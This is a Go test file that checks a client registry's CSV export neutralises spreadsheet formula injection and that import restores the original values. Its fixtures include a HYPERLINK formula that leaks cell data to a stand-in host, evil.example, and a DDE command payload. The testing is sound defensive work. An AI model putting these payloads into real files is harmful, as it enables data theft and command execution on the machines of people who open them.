package clients

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
)

// exportRows exports every client and returns the rows by client ID, each a
// map from column name to the cell as written.
func exportRows(t *testing.T, r *Registry, opts ExportOptions) ([]byte, map[string]map[string]string) {
	t.Helper()
	var buf bytes.Buffer
	if _, err := r.Export(context.Background(), &buf, Filter{}, opts); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]map[string]string{}
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, v := range rec {
			row[recs[0][i]] = v
		}
		rows[row["client_id"]] = row
	}
	return buf.Bytes(), rows
}

// An accountant opens the export in a spreadsheet: no text cell may start a
// formula there, and importing the export gives back exactly what was
// stored, a leading quote included.
func TestExportNeutralisesFormulasAndImportUndoesIt(t *testing.T) {
	r, _ := newTestRegistry(t, nil)
	ctx := context.Background()
	evil := completeClient("EVIL", "-ventas@example.cl")
	evil.Name = `=HYPERLINK("https://evil.example/?d="&P2,"Ver factura")`
	evil.Notes = "@SUM(A1:A9)\nsegunda línea"
	evil.Address = "-2+3+cmd|' /C calc'!A0"
	evil.Billing.Giro = "+Hosting"
	evil.Phone = "+56 9 1234 5678"
	evil.Mobile = "-"
	evil.Region = "'=ya entre comillas"
	evil.Seller = "'Pato'"
	evil.Collector = "O'Higgins"
	evil.NotifyEmails = []string{"=x@example.cl"}
	stored := mustAdd(t, r, evil)
	plain := mustAdd(t, r, completeClient("PLAIN", "plain@example.cl"))

	owes := func(_ context.Context, id string) (int, int64, bool, error) { return 1, -5000, true, nil } // a credit
	data, rows := exportRows(t, r, ExportOptions{Unpaid: owes})
	row := rows["EVIL"]
	for col, want := range map[string]string{
		"name":            `'=HYPERLINK("https://evil.example/?d="&P2,"Ver factura")`,
		"notes":           "'@SUM(A1:A9)\nsegunda línea",
		"address":         "'-2+3+cmd|' /C calc'!A0",
		"giro":            "'+Hosting",
		"phone":           "'+56 9 1234 5678", // text, not the formula 56 9 1234 5678
		"mobile":          "'-",
		"region":          "''=ya entre comillas",
		"seller":          "''Pato'",
		"collector":       "O'Higgins",
		"email":           "'-ventas@example.cl",
		"notify_emails":   "'=x@example.cl",
		"unpaid_balance":  "-5000", // a number we computed stays a number
		"unpaid_invoices": "1",
		"client_id":       "EVIL",
	} {
		if row[col] != want {
			t.Errorf("%s exported as %q, want %q", col, row[col], want)
		}
	}
	for id, row := range rows {
		for col, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && col != "unpaid_balance" {
				t.Errorf("%s: %s starts a formula: %q", id, col, v)
			}
		}
	}

	// Importing the export changes nothing: the import removes exactly the
	// quote the export added.
	rep, err := r.Import(ctx, bytes.NewReader(data), ImportOptions{By: "test"})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Unchanged != 2 || rep.Updated != 0 || len(rep.Bad) != 0 {
		t.Fatalf("re-import of the export: %+v", rep)
	}
	for _, want := range []Client{stored, plain} {
		got, err := r.Get(ctx, want.ID)
		if err != nil {
			t.Fatal(err)
		}
		if got.Name != want.Name || got.Notes != want.Notes || got.Address != want.Address || got.Phone != want.Phone ||
			got.Region != want.Region || got.Seller != want.Seller || got.Collector != want.Collector ||
			got.Billing.Giro != want.Billing.Giro || got.Email != want.Email || strings.Join(got.NotifyEmails, " ") != strings.Join(want.NotifyEmails, " ") {
			t.Errorf("%s after the round trip:\n got %+v\nwant %+v", want.ID, *got, want)
		}
	}

	// A file written by hand, or saved by a spreadsheet that kept the text
	// mark, reads the same way: a leading quote marks text.
	src := "client_id,name,email,phone\nHAND,'=1+1,hand@example.cl,'+56 2 2345 6789\n"
	if rep, err := r.Import(ctx, strings.NewReader(src), ImportOptions{By: "test"}); err != nil || rep.Inserted != 1 {
		t.Fatalf("hand-written import: %v %+v", err, rep)
	}
	if got, _ := r.Get(ctx, "HAND"); got.Name != "=1+1" || got.Phone != "+56 2 2345 6789" {
		t.Fatalf("hand-written row stored as name %q phone %q", got.Name, got.Phone)
	}
}

func FuzzCSVCellRoundTrip(f *testing.F) {
	for _, s := range []string{"", "'", "''", "=x", "'=x", "+56 9 1234 5678", "-", "@", "\tx", "O'Higgins", "'Pato'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		cell := exportCell(v)
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Fatalf("exportCell(%q) = %q starts a formula", v, cell)
		}
		if back := importCell(cell); back != v {
			t.Fatalf("importCell(exportCell(%q)) = %q", v, back)
		}
	})
}
